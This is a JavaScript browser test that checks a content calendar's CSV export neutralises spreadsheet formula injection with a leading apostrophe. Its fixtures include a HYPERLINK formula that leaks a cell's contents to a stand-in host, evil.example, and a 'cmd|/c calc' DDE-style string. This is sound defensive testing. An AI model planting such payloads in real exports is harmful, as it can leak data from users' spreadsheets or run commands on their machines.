// CSV formula injection: the content calendar's export neutralises every cell
// a spreadsheet would run as a formula (beginning with =, +, -, @, tab or CR)
// by prefixing ' (OWASP), whichever field it is in. The items come from a
// tiny json-server dataset so the expected cells are exact. (The cockpit's
// CSV is checked for formula-like cells in cockpit.test.mjs.)

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, writeFileSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  DIST_DIR,
  startStaticServer,
  startJsonServer,
  launchBrowser,
  newPage,
  closePage,
  gotoApp,
  assertNoPanic,
  screenshot,
} from './harness.mjs';
import { eventually, parseCsv } from './helpers.mjs';

let browser;

before(async () => {
  assert.ok(existsSync(join(DIST_DIR, 'index.html')), `${DIST_DIR}/index.html missing: run \`trunk build --release\` first`);
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")';

function content(id, fields) {
  return {
    id,
    title: `标题 ${id}`,
    kind: 'product_launch',
    channels: ['official_account'],
    status: 'scheduled',
    owner: '王芳',
    publishAt: '2026-12-03T10:00:00',
    notes: '',
    tags: [],
    link: null,
    repeat: 'none',
    ...fields,
  };
}

const ITEMS = [
  content('ct-f1', { title: HYPERLINK, owner: '@王芳', notes: '+86 138 0000 0000' }),
  content('ct-f2', { title: '-30% 冬至饺子', tags: ['=1+1', '早餐'], notes: '\tcmd|/c calc' }),
  content('ct-f3', { title: '煎饼果子 -30%', owner: '李雷', notes: '\r=2+3' }),
];


test('content calendar CSV: formula cells get a leading apostrophe, titles stay text on screen', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'haihe-csv-'));
  const dbPath = join(dir, 'db.json');
  const db = { content: ITEMS };
  for (const k of ['metrics', 'retention', 'portrait', 'hourly', 'pages', 'feedback', 'campaigns', 'channels', 'roadmap', 'experience', 'health', 'experiments', 'targets', 'events']) {
    db[k] = [];
  }
  writeFileSync(dbPath, JSON.stringify(db));
  let api;
  let web;
  let page;
  try {
    api = await startJsonServer({ dbPath });
    web = await startStaticServer({ root: DIST_DIR, config: { backend: 'rest', rest: { baseUrl: api.url } } });
    page = await newPage(browser);
    await gotoApp(page, `${web.url}#/calendar?view=agenda&date=2026-12-01`);
    const exportButton = page.getByRole('button', { name: '导出 CSV', exact: true });
    await exportButton.waitFor({ timeout: 20000 });
    // The payload is shown as plain text, never run.
    await eventually(async () => assert.ok((await page.getByText(HYPERLINK, { exact: true }).count()) >= 1, 'the title is on screen as text'));

    const [download] = await Promise.all([page.waitForEvent('download', { timeout: 10000 }), exportButton.click()]);
    const text = await readFile(await download.path(), 'utf8');
    assert.ok(text.startsWith('\uFEFF'), 'UTF-8 BOM for Excel');
    const rows = parseCsv(text.slice(1));
    assert.deepEqual(rows[0], ['编号', '标题', '类型', '渠道', '状态', '负责人', '发布时间', '重复', '标签', '链接', '备注']);
    const byId = Object.fromEntries(rows.slice(1).map((r) => [r[0], r]));
    assert.deepEqual(Object.keys(byId).sort(), ['ct-f1', 'ct-f2', 'ct-f3']);
    const col = (id, name) => byId[id][rows[0].indexOf(name)];

    assert.equal(col('ct-f1', '标题'), `'${HYPERLINK}`);
    assert.equal(col('ct-f1', '负责人'), "'@王芳");
    assert.equal(col('ct-f1', '备注'), "'+86 138 0000 0000");
    assert.equal(col('ct-f2', '标题'), "'-30% 冬至饺子");
    assert.equal(col('ct-f2', '标签'), "'=1+1、早餐", 'the joined cell starts with =');
    assert.equal(col('ct-f2', '备注'), "'\tcmd|/c calc");
    assert.equal(col('ct-f3', '备注'), "'\r=2+3");
    // Text that merely contains a trigger later on is left as it is.
    assert.equal(col('ct-f3', '标题'), '煎饼果子 -30%');
    assert.equal(col('ct-f3', '负责人'), '李雷');
    // No cell anywhere begins with a trigger.
    for (const cell of rows.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `unneutralised cell ${JSON.stringify(cell)}`);
    assertNoPanic(page);
  } catch (err) {
    if (page) await screenshot(page, 'csv-content-FAILED', { fullPage: true }).catch(() => {});
    if (api) err.message += `\njson-server output:\n${api.output().slice(-2000)}`;
    throw err;
  } finally {
    await closePage(page);
    await web?.close();
    await api?.close();
    await rm(dir, { recursive: true, force: true });
  }
});
